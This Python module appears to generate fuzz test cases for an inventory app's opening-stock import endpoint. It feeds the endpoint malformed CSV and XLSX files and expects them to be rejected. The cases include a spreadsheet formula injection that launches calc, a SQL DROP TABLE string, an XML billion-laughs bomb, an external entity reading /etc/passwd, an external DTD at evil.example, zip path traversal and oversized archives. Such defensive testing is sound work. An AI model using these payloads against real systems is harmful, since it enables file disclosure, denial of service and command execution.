"""Hostile lists: CSV and workbooks that are none, lie about themselves, or blow up when they are opened."""

import base64
from collections.abc import Iterator
from typing import Any

Case = dict[str, Any]
HEAD = "SKU,Lot,Exp,Qty,Cost\n"
GOOD = "MP-001,IMP-1,2028-06-30,4,16.50\n"
BRING, TRY = "POST /imports/opening-stock", "POST /imports/opening-stock?dry_run=true"
CSV = {"Content-Type": "text/csv"}
XLSX = {"Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
ROWS = [["SKU", "Lot", "Exp", "Qty", "Cost"], ["MP-001", "IMP-1", "2028-06-30", 4, 16.5]]
SHEET = "xl/worksheets/sheet1.xml"
SPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def csv() -> Iterator[Case]:
    """Text that is a list, nearly a list, or none. What may be taken is only tried."""
    for encoding in ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1"):
        for mark in (",", ";", "\t", "|"):
            text = (HEAD + GOOD).replace(",", mark)
            yield {"send": TRY, "text": text, "encoding": encoding, "headers": CSV, "expect": [200]}
    for text in ("\r\n".join((HEAD + GOOD).split("\n")), (HEAD + GOOD).replace("\n", "\r"),
        "sep=;\n" + (HEAD + GOOD).replace(",", ";"),
                 "\n\n" + HEAD + GOOD, HEAD + GOOD + "\n" * 50, "Stock of the cupboard\n" + HEAD + GOOD,
                 HEAD + GOOD.strip(),
                 HEAD.strip() + ",Note\n" + GOOD.strip() + ",=1+1\n"):  # fmt: skip
        yield {"send": TRY, "text": text, "headers": CSV, "expect": [200]}
    none = [
        "", " ", "\n", "\n" * 1_000, ",", ",,,,\n,,,,", HEAD, "SKU", "hello", "<html></html>", "{}", "[]",
        "a" * 5_000,
        "SKU,Lot,Exp,Qty\nMP-001,A,2028-06-30,4\n", "SKU,SKU,Lot,Exp,Qty,Cost\nA,B,C,2028-06-30,4,1\n",
        "SKU,Lot,Batch,Exp,Qty,Cost\nMP-001,A,B,2028-06-30,4,1\n", HEAD + GOOD + "\x00\x00\x00",
        "\x00" + HEAD + GOOD,
        HEAD.replace("Lot", "L\x00ot") + GOOD, HEAD + '"MP-001,A,2028-06-30,4,1\n',
        HEAD + 'MP-001,"A\n' + GOOD * 10, "MZ\x90\x00\x03", "%PDF-1.7\n", "GIF89a" + "\x01" * 50,
        "=cmd|' /C calc'!A0\n" + GOOD,
    ]  # fmt: skip
    for text in none:
        yield {"send": BRING, "text": text, "headers": CSV, "expect": [400, 422]}
    cells = {
        0: ["", "NOPE", "=1+1", "MP-001\x00", "'; DROP TABLE items; --", "x" * 600, "\u202eMP-001", "#REF!",
            "MP-001 MP-002"],
        1: ["x" * 21, "A\x0bB", "#N/A", "x" * 40_000, "A\ufffeB"],
        2: ["", "2026-02-30", "31.02.2026", "0000-00-00", "9999-12-31", "soon", "#VALUE!", "-1", "99999999",
            "1e9",
            "2028-13-01", "=TODAY()", "٢٠٢٨-٠٦-٣٠", "30/30/2028"],
        3: ["", "-1", "1.5", "1e3", "NaN", "Infinity", "abc", "9" * 40, "=1+1", "#DIV/0!", "1,5,5", "0x10",
            "five", "½"],
        4: ["", "-0.01", "NaN", "Infinity", "1e309", "abc", "9" * 40, "16.50 €", "£5", "=1+1", "#NUM!",
            "1.2.3",
            "0.00000001", "--5", "1/0"],
    }  # fmt: skip
    good = GOOD.strip().split(",")
    for place, values in cells.items():
        for value in values:
            row = [*good[:place], '"' + value.replace('"', '""') + '"', *good[place + 1 :]]
            for call in (BRING, BRING + "?partial=false"):
                yield {"send": call, "text": HEAD + GOOD.replace("IMP-1", "IMP-2") + ",".join(row) + "\n",
                    "headers": CSV,
                       "expect": [422]}  # fmt: skip
    yield from _csv_files()


def _csv_files() -> Iterator[Case]:
    """Tables too long or too wide, bytes that are no text, and kinds that are none."""
    for pieces, expect in (
        ([[HEAD, 1], [GOOD, 100_000]], [422]), ([[HEAD, 1], ["\n", 4_900_000]], [422]), ([["a,", 2_000_000],
        ["\n", 1]], [422]),
        ([[HEAD, 1], ['"', 4_000_000]], [422]), ([[HEAD, 1], ["x", 4_900_000]], [422]), ([["\n", 5_300_000]],
        [413]),
        ([[HEAD, 1], [",", 1_000_000], ["\n", 1]], [422]),
    ):  # fmt: skip
        yield {"send": BRING, "repeat": pieces, "headers": CSV, "expect": expect}
    for raw in (b"\xff\xfe", b"\xfe\xff\x00", b"\xff\xfe\x00\x00", b"\x81\x8d\x8f\x90\x9d" * 50,
        b"\xff" * 100,
                HEAD.encode("utf-16")[:-1], b"\x1f\x8b\x08\x00" + bytes(50), b"PK\x03\x04",
                    b"PK\x05\x06" + bytes(18)):  # fmt: skip
        yield {"send": BRING, "base64": base64.b64encode(raw).decode(), "headers": CSV, "expect": [422]}
    for kind in ("people", "settings", "..", "opening_stock", "OPENING-STOCK", "items%00", "%3Cscript%3E"):
        yield {"send": f"POST /imports/{kind}", "text": HEAD + GOOD, "headers": CSV, "expect": [404, 422]}


def workbooks() -> Iterator[Case]:
    """Workbooks that only look odd are tried and taken; those that are wrong or mean harm are refused."""
    for odd in (
        {"merge": ["F1:H1"]}, {"sheets": {"Other": [["not a list"]]}}, {"sheets": {"Old": ROWS},
        "since_1904": True},
        {"hidden_rows": [2]}, {"rows": [[], [], ["Title"], *ROWS]}, {"rows": [*ROWS, [], []]},
        {"rows": [ROWS[0], ["MP-001", "IMP-1", {"day": "2028-06-30"}, 4, 16.5]]},
        {"rows": [[*ROWS[0], "Note"], [*ROWS[1], "x" * 400]]}, {"after": "trailing"},
    ):  # fmt: skip
        yield {"send": TRY, "file": {"rows": ROWS} | odd, "headers": XLSX, "expect": [200, 422]}
    for state in ("hidden", "veryHidden"):
        yield {"send": TRY, "file": {"rows": ROWS, "state": state}, "headers": XLSX, "expect": [200, 422]}
    for value in (
        "#REF!",
        "#N/A",
        "#DIV/0!",
        "=1+1",
        "=cmd|' /C calc'!A0",
        True,
        "x" * 32_767,
        -5,
        1e300,
        "  ",
        None,
    ):
        for place in (0, 3, 4):
            row = [*ROWS[1][:place], value, *ROWS[1][place + 1 :]]
            yield {"send": BRING, "file": {"rows": [*ROWS, row]}, "headers": XLSX, "expect": [422]}
    yield from _packages()


def _packages() -> Iterator[Case]:
    """Workbooks whose parts are others, packages that are no workbook, files cut short or damaged."""
    bomb = "<!DOCTYPE x [<!ENTITY a \"ha\">" + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "&a;" * 10}">' for n in range(9)
    ) + "]><worksheet>&a8;</worksheet>"  # fmt: skip
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'
    parts: list[dict[str, Any]] = [
        {SHEET: bomb}, {SHEET: outside},
        {SHEET: "<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'><worksheet/>"},
        {"xl/sharedStrings.xml": bomb}, {"xl/workbook.xml": bomb}, {"[Content_Types].xml": outside},
        {SHEET: ""}, {SHEET: "<worksheet"}, {SHEET: "not xml"}, {SHEET: "\x00"}, {"xl/workbook.xml": ""},
        {"xl/workbook.xml": "<workbook/>"}, {"xl/_rels/workbook.xml.rels": "<x/>"},
        {"xl/vbaProject.bin": "macro"},
        {"xl/media/big.bin": {"repeat": [["\x00", 60_000_000]]}}, {SHEET: {"repeat": [["<row/>",
        6_000_000]]}},
        {SHEET: {"repeat": [[f"<worksheet {SPACE}><sheetData>", 1],
        ['<row><c t="inlineStr"><is><t>a</t></is></c></row>', 20_000],
                            ["</sheetData></worksheet>", 1]]}},
        {SHEET: _sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>')},
        {SHEET: _sheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')},
        {SHEET: _sheet('<row r="0"><c r="ZZZZZ0"><v>1</v></c></row>')},
        {SHEET: {"repeat": [[f"<worksheet {SPACE}>", 1], ["<a>", 50_000], ["</a>", 50_000], ["</worksheet>",
        1]]}},
    ]  # fmt: skip
    for changed in parts:
        yield {"send": BRING, "file": {"rows": ROWS, "parts": changed}, "headers": XLSX, "expect": [422]}
    # What a sheet refers to or has embedded is never opened, and so does no harm.
    for name in ("xl/externalLinks/externalLink1.xml", "xl/embeddings/oleObject1.bin"):
        yield {"send": TRY, "file": {"rows": ROWS, "parts": {name: "<x/>"}}, "headers": XLSX, "expect": [200]}
    for package in (
        {"a.txt": "a"}, {"content.xml": "<x/>", "mimetype": "application/vnd.oasis.opendocument.spreadsheet"},
        {f"part{number}": "x" for number in range(300)}, {"../../etc/passwd": "x"}, {"/etc/passwd": "x"},
        {"[Content_Types].xml": "<x/>"}, {"xl/workbook.bin": "x"}, {"word/document.xml": "<x/>"},
    ):  # fmt: skip
        yield {"send": BRING, "file": {"zip": package}, "headers": XLSX, "expect": [422]}
    for inside in ("EncryptedPackage", "Workbook", "Book", "WordDocument", ""):
        yield {"send": BRING, "file": {"old": inside}, "headers": XLSX, "expect": [422]}
    for cut in (0.1, 0.3, 0.5, 0.7, 0.9, 0.99):
        yield {"send": BRING, "file": {"rows": ROWS, "cut": cut}, "headers": XLSX, "expect": [422]}
    for step in (100, 150, 211, 307, 1_009):
        yield {"send": BRING, "file": {"rows": ROWS, "damage": step}, "headers": XLSX, "expect": [200, 422]}


def _sheet(rows: str) -> str:
    return f"<worksheet {SPACE}><sheetData>{rows}</sheetData></worksheet>"
